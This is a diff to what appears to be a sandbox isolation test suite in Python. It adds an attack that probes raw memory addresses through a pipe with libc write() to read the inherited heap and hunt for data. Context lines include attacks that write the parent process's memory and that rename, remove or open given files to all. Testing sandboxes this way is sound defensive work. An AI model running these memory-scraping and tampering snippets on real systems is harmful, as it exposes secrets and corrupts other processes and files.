@@ -86,6 +86,21 @@ for pid in ["self", os.getppid(), *pids()]:
     ),
     attack(
         _READS,
+        "the inherited heap, page by page",
+        """
+out, into = os.pipe()
+fcntl.fcntl(into, fcntl.F_SETPIPE_SZ, 2**17)
+LIBC.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
+starts = {id(one) >> 28 for one in (object(), [], {}, "x" * 10**5, bytes(10**7), sys.modules, json, LIBC)}
+for start in sorted(starts):
+    for address in range(start << 28, (start + 1) << 28, 2**16):
+        written = LIBC.write(into, address, 2**16)  # of what is not there, the kernel says so
+        if written > 0:
+            hunt(os.read(out, written), "the heap")
+""",
+    ),
+    attack(
+        _READS,
         "memory of the parent can be written",
         """
 for pid in {os.getppid(), *pids()} - {os.getpid(), 0, 1}:
@@ -174,7 +189,7 @@ for path in GIVEN["writes"]:
     attempt(f"renamed {path}", os.rename, path, path + ".evil")
     attempt(f"removed {path}", os.remove, path)
     attempt(f"opened {path} to all", os.chmod, path, 0o777)
-    attempt(f"made a folder in {path}", os.makedirs, os.path.join(path, "a", "b"))
+    attempt(f"made a folder in {path}", os.mkdir, os.path.join(path, "evil.d"))
 """,
         expects=GOES_ON,
     ),
